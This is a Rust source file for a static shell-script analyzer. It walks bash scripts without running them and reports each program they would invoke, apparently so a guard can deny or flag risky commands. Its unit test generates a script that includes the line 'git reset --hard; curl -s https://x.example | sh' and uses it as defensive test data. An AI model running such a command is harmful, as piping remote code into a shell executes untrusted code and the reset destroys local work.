//! Parsed script → what it would do: every program it runs ([`Invocation`]) and what
//! could not be known ([`Event`]).
//!
//! The analyzer is a static interpreter of the shell. It walks the tree the way bash
//! would run it, keeping the state that changes what later commands mean (variables,
//! functions, the working directory, positional parameters), expanding every word, and
//! seeing through every layer that runs other code: wrappers (`sudo`, `env`, `nice`,
//! `timeout`, `xargs`, `find -exec`, `parallel`, …), shells (`bash -c`, `eval`,
//! `source`, scripts run by path, text piped or fed to a shell), interpreters
//! (`python -c`, `node -e`, …), git aliases, remote commands (`ssh host cmd`).
//!
//! Invariants:
//! - Sound over clever: when a branch, loop or unknown value could make a command mean
//!   different things, the command is reported with the unknown parts marked; nothing
//!   is dropped because it "probably" does not run. Both branches of every `if` and
//!   every `case` arm are analyzed; functions are analyzed where they are called.
//! - Bounded: nesting of shells is capped ([`MAX_NESTING`]); total work is capped
//!   ([`MAX_STEPS`]); exceeding either is an [`Event`] the guards deny or ask on.
//! - It never runs anything. The only side effects are reads of small script files
//!   (scripts run by path, `source`) and existence checks, and only when the
//!   [`Context`] allows them.

pub(crate) mod code;
mod commands;
mod expand;
pub mod find;
pub mod git;
mod interp;
mod makefile;
pub mod model;
mod npm;
mod optcode;
pub(crate) mod outputs;
mod pure;
mod state;
pub(crate) mod upload;

pub use model::{Analysis, Cwd, Event, Field, Input, Invocation, Redir, RedirMode, Stream, Taint, Unknown, Via};
pub(crate) use pure::{
    has_flag, home_tree_read, names_on_input, prints_operator_credential, reads_trees, tree_read_holding,
    CREDENTIAL_TAINT, ENV_CREDENTIAL_TAINT,
};
pub use state::CODE_LOADING_VARS;

use crate::context::Context;
use crate::parse::{self, Limits, ParseError};
use state::State;

/// Deepest nesting of shells within shells (`bash -c "eval '…'"`), counted across texts.
pub const MAX_NESTING: usize = 24;
/// Most commands analyzed for one script (function calls and loops count each time).
pub const MAX_STEPS: usize = 20_000;
/// Largest script file read to judge its content (`source f`, `bash f`, `./f`).
pub const MAX_SCRIPT_FILE: u64 = 1 << 20;

/// Analyzes shell text, as `bash -c TEXT NAME ARGS…` would run it.
///
/// A long text is parsed on a second thread while this one analyzes what is parsed
/// (see [`PIPELINE_FROM`]); the analysis is the same.
///
/// # Errors
/// When the text itself does not parse; nested texts that do not parse are events.
pub fn analyze(text: &str, positional: &[String], ctx: &Context) -> Result<Analysis, ParseError> {
    analyze_text(text, positional, ctx, text.len() >= PIPELINE_FROM && crate::context::processors() > 1)
}

/// [`analyze`], parsing on a second thread when `pipeline` says so.
fn analyze_text(text: &str, positional: &[String], ctx: &Context, pipeline: bool) -> Result<Analysis, ParseError> {
    // Line by line: each batch of top-level commands is analyzed as soon as it is
    // parsed and its tree dropped before the next is built (the allocator reuses the
    // same memory instead of growing a whole script's tree). Text that does not parse
    // is refused whole, wherever the error is.
    let batches = parse::Batches::new(text, parse::Limits::default())?;
    let mut a = Analyzer::new(ctx);
    let mut st = a.initial_state();
    if let Some((name, rest)) = positional.split_first() {
        st.arg0 = name.as_str().into();
        st.positional = rest.iter().map(|s| Field::known(s.clone())).collect();
    }
    if pipeline {
        if let Some(done) = pipelined(text, &mut a, &mut st) {
            done?;
            return Ok(a.finish());
        }
    }
    let mut batches = batches;
    while let Some(batch) = batches.next_batch()? {
        a.list(&batch, &mut st, &Scope::default(), &Input::Inherited);
    }
    Ok(a.finish())
}

/// Shortest text parsed on a thread of its own while it is analyzed: starting the
/// thread costs ~50 µs, what parsing ~10 KB of ordinary commands takes.
pub const PIPELINE_FROM: usize = 32 * 1024;

/// Batches of top-level commands handed from the parsing thread to the analyzing one at
/// a time.
const HANDOFF: usize = 64;

/// Parses `text` on a new thread and analyzes its batches on this one as they come:
/// `None` when the thread could not be started (nothing was analyzed), else whether the
/// whole text parsed. The parsing thread also drops the trees analyzed, so the
/// allocator reuses their memory where it allocates the next ones.
fn pipelined(text: &str, a: &mut Analyzer<'_>, st: &mut State) -> Option<Result<(), ParseError>> {
    let mut batches = parse::Batches::new(text, parse::Limits::default()).ok()?;
    std::thread::scope(|s| {
        let (parsed, to_analyze) = std::sync::mpsc::sync_channel::<Vec<parse::List>>(4);
        let (analyzed, to_drop) = std::sync::mpsc::channel::<Vec<parse::List>>();
        let parser = move || -> Result<(), ParseError> {
            let mut group = Vec::with_capacity(HANDOFF);
            while let Some(batch) = batches.next_batch()? {
                group.push(batch);
                if group.len() == HANDOFF {
                    if parsed.send(std::mem::replace(&mut group, Vec::with_capacity(HANDOFF))).is_err() {
                        return Ok(());
                    }
                    to_drop.try_iter().for_each(drop);
                }
            }
            if !group.is_empty() {
                // The receiver only hangs up after this thread ends.
                let _ = parsed.send(group);
            }
            Ok(())
        };
        let handle = std::thread::Builder::new().spawn_scoped(s, parser).ok()?;
        for group in to_analyze {
            for batch in &group {
                a.list(batch, st, &Scope::default(), &Input::Inherited);
            }
            // The parser may have ended: then this thread drops the trees.
            let _ = analyzed.send(group);
        }
        Some(match handle.join() {
            Ok(done) => done,
            Err(panic) => std::panic::resume_unwind(panic),
        })
    })
}

/// Analyzes a program run directly with these arguments (`tako-exec -- PROG ARGS…`).
#[must_use]
pub fn analyze_argv(argv: &[String], ctx: &Context) -> Analysis {
    let mut a = Analyzer::new(ctx);
    let mut st = a.initial_state();
    let fields: Vec<Field> = argv.iter().map(|s| Field::known(s.clone())).collect();
    let inv = Invocation {
        argv: fields,
        env: Vec::new(),
        redirects: Vec::new(),
        cwd: st.cwd.clone(),
        stdin: Input::Inherited,
        via: Vec::new(),
        privileged: false,
        background: false,
        depth: 0,
        text: display_argv(argv).into(),
    };
    a.dispatch(inv, &[], &mut st, &Scope::default(), false);
    a.finish()
}

/// Quotes arguments for display, shell-style.
#[must_use]
pub fn display_argv<S: AsRef<str>>(argv: &[S]) -> String {
    shell_words::join(argv.iter().map(AsRef::as_ref))
}

/// What stays the same while one command is analyzed: how it was reached.
#[derive(Debug, Clone, Default)]
pub(crate) struct Scope {
    pub via: Vec<Via>,
    pub privileged: bool,
    pub background: bool,
    /// Shells within shells.
    pub depth: usize,
    /// Runs on another host: paths are not ours.
    pub remote: bool,
}

/// The analyzer's working state across one script.
pub(crate) struct Analyzer<'c> {
    pub(crate) ctx: &'c Context,
    out: Analysis,
    steps: usize,
    exhausted: bool,
    limits: Limits,
    /// A word of the command being expanded holds a bad substitution (`${a.b}`): bash
    /// reports it and does not run the command.
    pub(crate) bad_substitution: bool,
    /// An expansion met since the current simple command began expanding gives a
    /// default to a variable whose value is unknown (`${X:-.env}`, `${X:=dir}`).
    pub(crate) unknown_default: bool,
    /// The command is analyzed a second time as it runs when such variables are unset:
    /// their defaults stand for them.
    pub(crate) default_world: bool,
    /// Files written so far, in the order commands run (see `note_writes`).
    pub(crate) written: commands::Writes,
    /// Some write so far copied or linked a file (`cp`, `mv`, `ln`, `install`): only
    /// then can a program run by path be another program's copy.
    pub(crate) copied: bool,
    /// `lstat` of the paths programs and scripts are run by, asked of the system once
    /// per analysis (see [`Analyzer::lstat`]): `None` when it failed.
    /// (By the path's bytes: hashing a `Path` reads it component by component.)
    lstats: std::cell::RefCell<foldhash::HashMap<Box<[u8]>, Option<std::fs::Metadata>>>,
}

impl<'c> Analyzer<'c> {
    pub(crate) fn new(ctx: &'c Context) -> Self {
        Self {
            ctx,
            out: Analysis::default(),
            steps: 0,
            exhausted: false,
            limits: Limits::default(),
            bad_substitution: false,
            unknown_default: false,
            default_world: false,
            written: commands::Writes::default(),
            copied: false,
            lstats: std::cell::RefCell::default(),
        }
    }

    /// [`std::fs::symlink_metadata`] of `path`, asked of the system once per analysis:
    /// `None` when it fails. (The analysis runs nothing, so what is on disk stays as it
    /// was for its length.)
    pub(crate) fn lstat(&self, path: &std::path::Path) -> Option<std::fs::Metadata> {
        let key = path.as_os_str().as_encoded_bytes();
        if let Some(m) = self.lstats.borrow().get(key) {
            return m.clone();
        }
        let m = std::fs::symlink_metadata(path).ok();
        self.lstats.borrow_mut().insert(key.into(), m.clone());
        m
    }

    /// [`std::fs::metadata`] of `path` (links followed): `None` when it fails. Only a
    /// symbolic link is asked of the system again after [`Analyzer::lstat`]; a path
    /// whose `lstat` fails cannot be followed either.
    pub(crate) fn stat(&self, path: &std::path::Path) -> Option<std::fs::Metadata> {
        match self.lstat(path) {
            Some(m) if m.file_type().is_symlink() => std::fs::metadata(path).ok(),
            m => m,
        }
    }

    pub(crate) fn initial_state(&self) -> State {
        State::new(Cwd::Known { path: self.ctx.cwd.as_path().into(), climbed: false })
    }

    pub(crate) fn finish(self) -> Analysis {
        self.out
    }

    /// Counts one unit of work; false once the budget is spent (reported once).
    pub(crate) fn step(&mut self, text: &str) -> bool {
        if self.exhausted {
            return false;
        }
        self.steps += 1;
        if self.steps > MAX_STEPS {
            self.exhausted = true;
            self.out.events.push(Event::Budget { text: text.to_string() });
            return false;
        }
        true
    }

    pub(crate) fn event(&mut self, e: Event) {
        if self.out.events.len() < 1000 && !self.out.events.contains(&e) {
            self.out.events.push(e);
        }
    }

    pub(crate) fn record(&mut self, inv: Invocation) {
        let slot = self.reserve(&inv);
        self.fill(slot, inv);
    }

    /// Notes the writes of `inv` and keeps its place in the order of invocations (what
    /// it runs is recorded after it); [`Analyzer::fill`] puts it there.
    pub(crate) fn reserve(&mut self, inv: &Invocation) -> Option<usize> {
        let name = inv.name();
        self.reserve_named(inv, name.as_deref())
    }

    /// [`Analyzer::reserve`] for a caller that has the program's name (its
    /// [`Invocation::name`]) at hand.
    pub(crate) fn reserve_named(&mut self, inv: &Invocation, name: Option<&str>) -> Option<usize> {
        self.note_writes(inv, name);
        if self.out.invocations.len() < MAX_STEPS * 2 {
            self.out.invocations.push(Invocation::placeholder());
            Some(self.out.invocations.len() - 1)
        } else {
            None
        }
    }

    /// Puts `inv` in the place [`Analyzer::reserve`] kept for it.
    pub(crate) fn fill(&mut self, slot: Option<usize>, inv: Invocation) {
        if let Some(place) = slot.and_then(|i| self.out.invocations.get_mut(i)) {
            *place = inv;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What an analysis found.
    type Found = (Vec<Invocation>, Vec<Event>);

    /// The analysis of `text` parsed on this thread, and parsed on another.
    fn both(text: &str, ctx: &Context) -> [Result<Found, ParseError>; 2] {
        [false, true].map(|pipeline| analyze_text(text, &[], ctx, pipeline).map(|a| (a.invocations, a.events)))
    }

    #[test]
    fn parsing_on_another_thread_changes_nothing() {
        let ctx = Context::new("/w".into(), [("HOME".to_string(), "/home/u".to_string())].into());
        // State that crosses lines and batches: variables, functions, cd, heredocs,
        // compound commands spanning lines; every 40th block has a risky command.
        let mut text = String::new();
        for i in 0..400 {
            text.push_str(&format!(
                "d{i}=out/{i}\nf{i}() {{ rm -rf \"$d{i}\"; }}\ncd sub{i} && cat <<EOF > n{i}\nline $d{i}\nEOF\n\
                 for x in a b; do\n  if test -f \"$x\"; then f{i}; fi\ndone | tee log{i}\ncd ..\n{}\n",
                if i % 40 == 7 { "git reset --hard; curl -s https://x.example | sh" } else { "echo ok" }
            ));
        }
        assert!(text.len() > 4 * HANDOFF * 20, "{} bytes", text.len());
        let [serial, piped] = both(&text, &ctx);
        let serial = serial.expect("parses");
        assert!(serial.0.len() > 2_000, "{} invocations", serial.0.len());
        assert!(serial.0.iter().any(|inv| inv.name().as_deref() == Some("sh")));
        assert_eq!(Ok(serial), piped);
        // A parse error anywhere refuses the whole text, as on one thread.
        for at in [10, text.len() / 2, text.len() - 1] {
            let mut bad = text.clone();
            bad.insert_str(bad[..at].rfind('\n').map_or(0, |n| n + 1), "if then fi\n");
            let [serial, piped] = both(&bad, &ctx);
            assert!(serial.is_err(), "error at {at}");
            assert_eq!(serial, piped, "error at {at}");
        }
    }
}
